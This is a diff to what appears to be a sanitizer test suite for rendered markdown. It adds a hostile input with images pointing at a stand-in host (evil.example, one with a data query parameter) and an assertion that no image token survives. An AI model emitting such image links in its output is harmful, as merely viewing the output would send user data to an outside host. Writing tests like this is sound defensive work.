@@ -47,6 +47,7 @@ NASTY = (
     "</blockquote></div></pre></section><h1>Mine</h1>",
     "<!-- everything below is gone",
     "[1]: https://evil.example\n[^1]: note\n- [x]: y",
+    "![x](https://evil.example/?d=1) [![y](https://evil.example/y.png)](z) \\![x](y)",
     "> quoted\n\n\n    indented\n\n1. one\n# head\nSetext\n===\n| a | b |\n| - | - |",
     "\x1b[2J\u202etxt\u200b \\` \\<b> &lt;script&gt; &#60;",
 )
@@ -96,6 +97,7 @@ def check_markdown(text: str) -> None:
         if token.type == "html_block":
             assert token.content.strip() in ("</details>",) or token.content.startswith("<details><summary>")
         for inner in token.children or ():
+            assert inner.type != "image", "whoever only looks would fetch it"
             if inner.type == "html_inline":
                 assert inner.content.strip("</>") in ("code", "details", "summary")
     assert [token.type for token in tokens if token.type == "hr"] == [
